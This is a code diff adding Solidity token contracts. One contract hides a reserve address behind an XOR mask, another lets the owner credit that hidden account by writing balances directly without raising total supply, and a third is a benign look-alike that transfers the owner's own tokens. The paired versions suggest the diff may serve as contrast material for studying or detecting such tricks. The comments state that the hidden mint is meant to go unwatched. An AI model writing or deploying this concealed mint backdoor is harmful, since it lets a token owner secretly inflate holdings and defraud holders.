@@ -288,3 +288,44 @@ contract ZooHolderReward is ZooHolderList {
         }
     }
 }
+
+/// An account kept only as a masked number: neither its storage nor its code shows an address.
+abstract contract ZooMaskedReserve is ZooToken {
+    uint256 private constant MASK = 0x7a3c91e5d4b2f0681a9c3e5f7b1d2c4e6f8a0b1c3d5e7f9a2b4c6d8e0f1a3b5c;
+    uint256 private _reserveKey;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address reserve) {
+        _initToken(name_, symbol_, 18, supply, msg.sender);
+        _reserveKey = uint256(uint160(reserve)) ^ MASK;
+    }
+
+    function _reserve() internal view returns (address) {
+        return address(uint160(_reserveKey ^ MASK));
+    }
+}
+
+/// The owner "seeds the reserve": it credits the masked account by writing the balance mapping,
+/// leaving the supply alone. The Transfer it emits (from the token itself, which loses nothing) is
+/// the only place the account is named: a mint to an account nobody would think to watch.
+contract ZooReserveCredit is ZooMaskedReserve {
+    constructor(string memory name_, string memory symbol_, uint256 supply, address reserve)
+        ZooMaskedReserve(name_, symbol_, supply, reserve)
+    {}
+
+    function seedReserve(uint256 amount) external onlyOwner {
+        address r = _reserve();
+        _balances[r] += amount;
+        emit Transfer(address(this), r, amount);
+    }
+}
+
+/// The look-alike: the owner funds the same masked reserve out of its own balance. Nothing is created.
+contract ZooReserveFund is ZooMaskedReserve {
+    constructor(string memory name_, string memory symbol_, uint256 supply, address reserve)
+        ZooMaskedReserve(name_, symbol_, supply, reserve)
+    {}
+
+    function fundReserve(uint256 amount) external onlyOwner {
+        _move(msg.sender, _reserve(), amount);
+    }
+}
